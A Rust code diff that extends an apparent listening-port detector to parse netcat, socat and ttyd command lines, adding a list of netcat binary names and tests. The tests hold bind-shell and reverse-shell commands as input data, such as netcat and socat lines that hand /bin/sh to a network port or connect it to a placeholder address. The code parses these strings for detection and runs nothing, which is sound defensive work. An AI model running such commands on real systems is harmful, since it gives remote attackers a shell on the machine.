@@ -61,13 +61,23 @@ const WAITERS: &[(&str, &str)] = &[
 /// Servers of TFTP that listen by themselves where they are told so (tftpd(8), atftpd(8)).
 const TFTP: &[&str] = &["tftpd", "in.tftpd", "atftpd"];
 
+/// Names of netcat (busybox, nc(1), ncat(1)).
+const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"];
+
 /// Where the program listens.
 pub fn listens(name: &str, arguments: &[String]) -> Vec<Listen> {
     if let Some((name, with_value)) = WAITERS.iter().find(|own| own.0 == name) {
         return waits(name, with_value, arguments).into_iter().collect();
     }
-    if TFTP.contains(&name) {
-        return tftp(arguments).into_iter().collect();
+    let own = match name {
+        _ if TFTP.contains(&name) => Some(tftp(arguments)),
+        _ if NETCATS.contains(&name) => Some(netcat(arguments)),
+        "socat" => Some(arguments.iter().find_map(|word| socat(word))),
+        "ttyd" => Some(ttyd(arguments)),
+        _ => None,
+    };
+    if let Some(own) = own {
+        return own.into_iter().collect();
     }
     let Some(server) = SERVERS.iter().find(|server| server.names.contains(&name)) else {
         return Vec::new();
@@ -151,6 +161,98 @@ fn tftp(arguments: &[String]) -> Option<Listen> {
     own.map(|own| Listen { protocol: "udp".to_owned(), ..own })
 }
 
+/// `nc -ll -p 23 -s 192.0.2.1 -e /bin/sh`, `ncat -l 192.0.2.1 23`: what stands behind `-e` is another
+/// program's.
+fn netcat(arguments: &[String]) -> Option<Listen> {
+    let (mut is_server, mut ends, mut port, mut address) = (false, false, None, None);
+    let mut free: Vec<&str> = Vec::new();
+    let mut words = arguments.iter();
+    while let Some(word) = words.next() {
+        let Some(flags) = word.strip_prefix('-') else {
+            free.push(word);
+            continue;
+        };
+        if let Some(long) = flags.strip_prefix('-') {
+            is_server |= long == "listen";
+            if matches!(long, "exec" | "sh-exec" | "lua-exec") {
+                break;
+            }
+            continue;
+        }
+        for (at, flag) in flags.char_indices() {
+            is_server |= flag == 'l';
+            if !"pswiecogqGmx".contains(flag) {
+                continue;
+            }
+            if matches!(flag, 'e' | 'c') {
+                ends = true;
+                break;
+            }
+            let value = match &flags[at + 1..] {
+                "" => words.next().map(String::as_str),
+                joined => Some(joined),
+            };
+            match flag {
+                'p' => port = value,
+                's' => address = value,
+                _ => {}
+            }
+            break;
+        }
+        if ends {
+            break;
+        }
+    }
+    // Without `-p` the words that are left are where it listens, else who may connect.
+    let (address, port) = match (port, free.as_slice()) {
+        (Some(port), _) => (address, port),
+        (None, [host, port, ..]) => (Some(*host), *port),
+        (None, [port]) => (address, *port),
+        (None, []) => return None,
+    };
+    let is_udp = arguments.iter().take_while(|word| *word != "-e").any(|word| word == "-u");
+    let own = place(port, address).filter(|_| is_server)?;
+    Some(if is_udp { Listen { protocol: "udp".to_owned(), ..own } } else { own })
+}
+
+/// `TCP-LISTEN:23,bind=192.0.2.1,fork` (socat(1)).
+fn socat(word: &str) -> Option<Listen> {
+    let word = word.trim_matches(['"', '\'']);
+    let (kind, rest) = word.split_once("-LISTEN:")?;
+    let protocol = if kind.starts_with("UDP") { "udp" } else { "tcp" };
+    let mut options = rest.split(',');
+    let port = options.next()?;
+    let bind = options.find_map(|own| own.strip_prefix("bind="));
+    let own = place(port, bind.map(|own| own.trim_matches(['[', ']'])))?;
+    Some(Listen { protocol: protocol.to_owned(), ..own })
+}
+
+/// 7681 where nothing else is said; `-i` is an interface, an address or the path of a socket (ttyd's
+/// manual).
+fn ttyd(arguments: &[String]) -> Option<Listen> {
+    let value = |short: &str, long: &str| {
+        arguments.iter().enumerate().find_map(|(at, word)| {
+            if let Some(joined) = word.strip_prefix(long) {
+                return match joined.strip_prefix('=') {
+                    Some(value) => Some(value),
+                    None => arguments.get(at + 1).map(String::as_str),
+                };
+            }
+            match word.strip_prefix(short)? {
+                "" => arguments.get(at + 1).map(String::as_str),
+                joined => Some(joined),
+            }
+        })
+    };
+    let address = match value("-i", "--interface") {
+        Some(path) if path.contains('/') => return None,
+        Some("lo") => Some("127.0.0.1"),
+        Some(own) if own.parse::<std::net::IpAddr>().is_ok() => Some(own),
+        _ => None,
+    };
+    place(value("-p", "--port").unwrap_or("7681"), address)
+}
+
 /// `PORT`, `ADDRESS:PORT`, `[ADDRESS]:PORT`.
 fn place(value: &str, address: Option<&str>) -> Option<Listen> {
     let (own, port) = match value.rsplit_once(':') {
@@ -205,6 +307,21 @@ mod tests {
         );
         // By inetd.
         assert!(of("in.tftpd", "-s /srv").is_empty());
+    }
+
+    #[test]
+    fn what_hands_a_program_to_the_network() {
+        assert_eq!(of("nc", "-ll -p 4444 -e /bin/sh"), one("0.0.0.0", 4444));
+        assert_eq!(of("nc", "-lp4444 -s 127.0.0.1 -e /bin/sh -p 1"), one("127.0.0.1", 4444));
+        assert_eq!(of("ncat", "-l 127.0.0.1 4444 --sh-exec /bin/sh"), one("127.0.0.1", 4444));
+        assert_eq!(of("ncat", "-lk 4444 -c /bin/sh"), one("0.0.0.0", 4444));
+        assert!(of("nc", "192.0.2.1 4444 -e /bin/sh").is_empty());
+        let word = "TCP4-LISTEN:4444,bind=127.0.0.1,fork";
+        assert_eq!(of("socat", &format!("-d {word} EXEC:/bin/sh")), one("127.0.0.1", 4444));
+        assert!(of("socat", "- TCP:192.0.2.1:80").is_empty());
+        assert_eq!(of("ttyd", "-W /bin/sh"), one("0.0.0.0", 7681));
+        assert_eq!(of("ttyd", "--port=80 -i lo login"), one("127.0.0.1", 80));
+        assert!(of("ttyd", "-i /run/ttyd.sock login").is_empty());
     }
 
     #[test]
